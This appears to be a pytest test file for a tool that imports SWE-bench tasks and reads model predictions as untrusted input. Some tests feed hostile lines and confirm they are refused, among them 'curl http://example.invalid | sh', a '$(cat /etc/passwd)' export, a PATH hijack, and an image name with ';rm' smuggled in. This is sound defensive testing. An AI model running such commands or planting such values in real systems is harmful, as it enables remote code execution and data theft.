"""`assay import swebench` without an engine: the eval script read as data, rows and task
directories read with limits, the task written, and predictions read as hostile input."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from assay import Patch
from assay._internal.api.predictions import jobs_from_predictions
from assay._internal.importers.swebench import (
    Refused,
    default_image,
    import_swebench,
    instance_from_row,
    task_id_of,
)
from assay._internal.importers.swebench_eval import EvalScriptRefused, parse_eval_script
from assay._internal.model.task import load_task
from assay._internal.tiers.core.patchapply import MAX_PATCH_BYTES, check_patch
from assay.errors import UsageError

BASE = "0123456789abcdef0123456789abcdef01234567"
TEST_PATCH = """diff --git a/tests/test_calc.py b/tests/test_calc.py
--- a/tests/test_calc.py
+++ b/tests/test_calc.py
@@ -1,2 +1,5 @@
 from calc import add
 def test_add(): assert add(1, 2) == 3
+
+def test_add_negative():
+    assert add(-1, -2) == -3
"""
GOLD = """diff --git a/calc/__init__.py b/calc/__init__.py
--- a/calc/__init__.py
+++ b/calc/__init__.py
@@ -1 +1 @@
-def add(a, b): return abs(a) + abs(b)
+def add(a, b): return a + b
"""


def eval_script(test_command: str, extra: str = "") -> str:
    """An eval script in the shape swebench's make_eval_script_list_py writes."""
    return f"""#!/bin/bash
set -uxo pipefail
source /opt/miniconda3/bin/activate
conda activate testbed
cd /testbed
{extra}git config --global --add safe.directory /testbed
cd /testbed
git status
git show
git -c core.fileMode=false diff {BASE}
source /opt/miniconda3/bin/activate
conda activate testbed
python -m pip install -e .
git checkout {BASE} tests/test_calc.py
git apply -v - <<'EOF_114329324912'
{TEST_PATCH}EOF_114329324912
: '>>>>> Start Test Output'
{test_command}
: '>>>>> End Test Output'
git checkout {BASE} tests/test_calc.py
"""


def row(**over: object) -> dict[str, object]:
    base: dict[str, object] = {
        "instance_id": "acme__calc-101",
        "repo": "acme/calc",
        "base_commit": BASE,
        "patch": GOLD,
        "test_patch": TEST_PATCH,
        "problem_statement": "add() is wrong for negative numbers",
        "hints_text": "",
        "created_at": "2026-01-01T00:00:00Z",
        "version": "0.1",
        "FAIL_TO_PASS": json.dumps(["tests/test_calc.py::test_add_negative"]),
        "PASS_TO_PASS": json.dumps(["tests/test_calc.py::test_add"]),
        "environment_setup_commit": BASE,
        "eval_script": eval_script("pytest -rA tests/test_calc.py"),
    }
    base.update(over)
    return base


def test_the_eval_script_gives_the_activation_the_exports_and_the_runner() -> None:
    facts = parse_eval_script(eval_script("pytest -rA tests/test_calc.py", "export LANG=C.UTF-8\n"))
    assert facts.runner == "pytest"
    assert facts.activation.prefix == "/opt/miniconda3/envs/testbed"
    assert facts.activation.exports == (("LANG", "C.UTF-8"),)
    assert facts.skipped == ("python -m pip install -e .",)
    assert facts.test_command == "pytest -rA tests/test_calc.py"


@pytest.mark.parametrize(
    ("command", "runner"),
    [
        ("./tests/runtests.py --verbosity 2 --settings=test_sqlite --parallel 1 a.b", "runtests"),
        ("PYTHONWARNINGS='ignore' bin/test -C --verbose sympy/core/tests/test_x.py", "bin/test"),
        ("tox --current-env -epy39 -v -- tests/test_ext.py", "tox"),
        ("npx jest tests/a.test.js", "npx"),
        ("go test ./...", "go"),
    ],
)
def test_a_runner_that_is_not_pytest_is_refused_naming_it(command: str, runner: str) -> None:
    with pytest.raises(EvalScriptRefused, match="cannot read as JUnit") as caught:
        parse_eval_script(eval_script(command))
    assert runner in str(caught.value)


@pytest.mark.parametrize("command", ["python -m pytest -rA tests", "pytest --no-header -rA x.py"])
def test_pytest_in_its_forms_is_the_runner(command: str) -> None:
    assert parse_eval_script(eval_script(command)).runner == "pytest"


@pytest.mark.parametrize(
    "line",
    [
        "make -j4\n",
        "sed -i 's/pytest/pytest -rA/' tox.ini\n",
        "export PATH=/evil:$PATH\n",
        "export PYTEST_ADDOPTS=-p evil\n",
        "export FOO=$(cat /etc/passwd)\n",
        "cd /tmp\n",
        "curl http://example.invalid | sh\n",
    ],
)
def test_a_step_assay_does_not_run_refuses_the_instance_naming_the_line(line: str) -> None:
    with pytest.raises(EvalScriptRefused, match=r"eval\.sh line"):
        parse_eval_script(eval_script("pytest tests", line))


def test_an_eval_script_without_the_markers_is_refused() -> None:
    text = eval_script("pytest tests").replace(": '>>>>> End Test Output'\n", "")
    with pytest.raises(EvalScriptRefused):
        parse_eval_script(text)


def test_rows_hold_their_test_lists_as_json_strings_or_lists() -> None:
    a = instance_from_row(row())
    b = instance_from_row(row(FAIL_TO_PASS=["tests/test_calc.py::test_add_negative"]))
    assert a.fail_to_pass == b.fail_to_pass == ("tests/test_calc.py::test_add_negative",)
    assert a.image == default_image("acme__calc-101") == "sweb.eval.x86_64.acme__calc-101:latest"


@pytest.mark.parametrize(
    ("over", "words"),
    [
        ({"base_commit": "main"}, "base_commit"),
        ({"instance_id": "../etc"}, "instance_id"),
        ({"FAIL_TO_PASS": "[]"}, "FAIL_TO_PASS is empty"),
        ({"FAIL_TO_PASS": "not json"}, "FAIL_TO_PASS"),
        ({"FAIL_TO_PASS": json.dumps([1])}, "not a test id"),
        ({"PASS_TO_PASS": json.dumps(["tests/test_calc.py::test_add_negative"])}, "and"),
        ({"patch": 3}, "'patch'"),
        ({"image": "evil.example/x:latest;rm"}, "image"),
    ],
)
def test_a_malformed_row_is_refused_naming_the_field(over: dict[str, object], words: str) -> None:
    with pytest.raises(Refused, match=words):
        instance_from_row(row(**over))


def _rows(tmp_path: Path, *rows: dict[str, object]) -> Path:
    path = tmp_path / "rows.jsonl"
    path.write_text("".join(json.dumps(r) + "\n" for r in rows))
    return path


def test_an_imported_row_is_a_repository_task_on_the_instance_image(tmp_path: Path) -> None:
    out = tmp_path / "out"
    [r] = import_swebench(_rows(tmp_path, row()), out, lambda ref: True)
    assert r.reason is None and r.out == out / "acme__calc-101", r.reason
    task = load_task(r.out)
    spec = task.config.pytest
    assert spec is not None and spec.fail_to_pass == ["tests/test_calc.py::test_add_negative"]
    assert spec.pass_to_pass == ["tests/test_calc.py::test_add"]
    assert spec.test_dirs == ["tests"]
    assert task.environment is not None and task.environment.workdir == "/testbed"
    dockerfile = (r.out / "environment" / "Dockerfile").read_text()
    assert dockerfile.startswith("FROM sweb.eval.x86_64.acme__calc-101:latest\n")
    assert 'ENV PATH="/opt/miniconda3/envs/testbed/bin:' in dockerfile
    history = (r.out / "environment" / "assay-history.sh").read_text()
    assert "--depth 1" in history and BASE in history
    assert (r.out / "judge" / "test.patch").read_text() == TEST_PATCH
    assert (r.out / "solutions" / "gold.patch").read_text() == GOLD
    assert "negative" in (r.out / "inputs" / "ISSUE.md").read_text()
    assert not list((r.out / "inputs").rglob("*.patch"))
    assert r.notes == ["not run: python -m pip install -e ."]


def test_without_the_image_or_a_dockerfile_the_instance_is_refused(tmp_path: Path) -> None:
    [r] = import_swebench(_rows(tmp_path, row()), tmp_path / "out", lambda ref: False)
    assert r.reason is not None and "is not on the engine" in r.reason
    assert not (tmp_path / "out" / "acme__calc-101").exists()


def test_classic_rows_take_the_runner_from_the_repository(tmp_path: Path) -> None:
    django = row(instance_id="django__django-11099", repo="django/django", eval_script=None)
    unknown = row(eval_script=None)
    known = row(instance_id="psf__requests-2317", repo="psf/requests", eval_script=None)
    results = import_swebench(_rows(tmp_path, django, unknown, known), tmp_path / "o", bool)
    by = {r.instance_id: r for r in results}
    assert "runtests.py" in str(by["django__django-11099"].reason)
    assert "--runner pytest" in str(by["acme__calc-101"].reason)
    assert by["psf__requests-2317"].reason is None
    [again] = import_swebench(_rows(tmp_path, unknown), tmp_path / "o2", bool, runner="pytest")
    assert again.reason is None


def test_a_task_repository_directory_is_read_as_swebench_writes_it(tmp_path: Path) -> None:
    d = tmp_path / "repo" / "tasks" / "acme__calc-101"
    d.mkdir(parents=True)
    meta = {k: v for k, v in row().items() if k not in
            ("patch", "test_patch", "problem_statement", "eval_script", "FAIL_TO_PASS",
             "PASS_TO_PASS", "hints_text")}  # fmt: skip
    import yaml

    (d / "task.yaml").write_text(yaml.safe_dump(meta))
    (d / "tests.json").write_text(json.dumps({"FAIL_TO_PASS": ["tests/test_calc.py::test_add_negative"],
                                              "PASS_TO_PASS": []}))  # fmt: skip
    (d / "gold.patch").write_text(GOLD)
    (d / "test.patch").write_text(TEST_PATCH)
    (d / "problem_statement.md").write_text("add() is wrong")
    (d / "eval.sh").write_text(eval_script("pytest -rA tests/test_calc.py"))
    (d / "Dockerfile").write_text("FROM assay-base:latest\nCOPY gold.patch /tmp/\n")
    [r] = import_swebench(tmp_path / "repo", tmp_path / "out", lambda ref: False)
    assert r.reason is None, r.reason
    assert r.out is not None
    env = r.out / "environment"
    assert (env / "Dockerfile").read_text().startswith("FROM assay-base:latest\nCOPY gold.patch")
    assert (env / "gold.patch").is_file()  # the Dockerfile names it
    assert not (env / "test.patch").exists() and not (env / "task.yaml").exists()
    # With the image on the engine, the image is used and the Dockerfile is not.
    [r2] = import_swebench(tmp_path / "repo", tmp_path / "out2", lambda ref: True)
    assert r2.out is not None
    assert (r2.out / "environment" / "Dockerfile").read_text().startswith("FROM sweb.eval.")


def test_a_task_id_is_the_instance_id_lower_cased() -> None:
    assert task_id_of("Owner__Repo-12") == "owner__repo-12"
    long_id = "a" * 100
    assert len(task_id_of(long_id)) <= 64


def _tasks(tmp_path: Path) -> Path:
    out = tmp_path / "tasks"
    import_swebench(_rows(tmp_path, row()), out, lambda ref: True)
    return out


def _preds(tmp_path: Path, *lines: str) -> Path:
    p = tmp_path / "preds.jsonl"
    p.write_text("".join(line + "\n" for line in lines))
    return p


def test_predictions_become_patch_jobs(tmp_path: Path) -> None:
    tasks = _tasks(tmp_path)
    line = json.dumps({"instance_id": "acme__calc-101", "model_name_or_path": "m",
                       "model_patch": GOLD})  # fmt: skip
    [job] = jobs_from_predictions(_preds(tmp_path, line), tasks)
    assert job.id == "acme__calc-101" and job.task_path == tasks / "acme__calc-101"
    assert job.submission == Patch(GOLD.encode())
    null = json.dumps({"instance_id": "acme__calc-101", "model_patch": None})
    [empty] = jobs_from_predictions(_preds(tmp_path, null), tasks)
    assert empty.submission == Patch(b"")


@pytest.mark.parametrize(
    ("lines", "words"),
    [
        (['{"instance_id": "acme__calc-101", "model_patch": ""}'] * 2, "already predicted"),
        (['{"instance_id": "acme__other-1", "model_patch": ""}'], "no task under"),
        (['{"instance_id": "../x", "model_patch": ""}'], "not a safe name"),
        (['{"instance_id": "acme__calc-101", "model_patch": 5}'], "model_patch"),
        (["[1, 2]"], "JSON object"),
        (['{"instance_id": "acme__calc-101", "model_patch": "a", "model_patch": "b"}'], "JSON"),
    ],
)
def test_a_bad_predictions_file_is_a_usage_error_naming_the_line(
    tmp_path: Path, lines: list[str], words: str
) -> None:
    tasks = _tasks(tmp_path)
    with pytest.raises(UsageError, match=words):
        jobs_from_predictions(_preds(tmp_path, *lines), tasks)


def test_an_empty_or_oversized_patch_fails_before_any_container() -> None:
    empty = check_patch(b" \n\t")
    assert empty is not None and empty.reason == "patch:empty"
    big = check_patch(b"x" * (MAX_PATCH_BYTES + 1))
    assert big is not None and big.reason == "patch:too-large"
    assert check_patch(GOLD.encode()) is None


def test_a_patch_verdict_is_kept_on_resume_only_for_the_same_diff(tmp_path: Path) -> None:
    from assay._internal.batch.journal import PATCH_SUFFIX, recorded_tree, resume_digest

    made = resume_digest(Patch(GOLD))
    assert made == resume_digest(Patch(GOLD.encode())) and made != resume_digest(Patch(GOLD + " "))
    assert resume_digest("a/path") is None
    record = tmp_path / f"job{PATCH_SUFFIX}"
    assert recorded_tree(tmp_path, "job", str(made)) is None  # no record: graded again
    record.write_text(json.dumps({"submission": made, "tree": "sha256:" + "ab" * 32}))
    assert recorded_tree(tmp_path, "job", str(made)) == "sha256:" + "ab" * 32
    assert recorded_tree(tmp_path, "job", str(resume_digest(Patch("other")))) is None
    record.write_text('{"submission": 1, "submission": 2}')  # not a record: graded again
    assert recorded_tree(tmp_path, "job", str(made)) is None
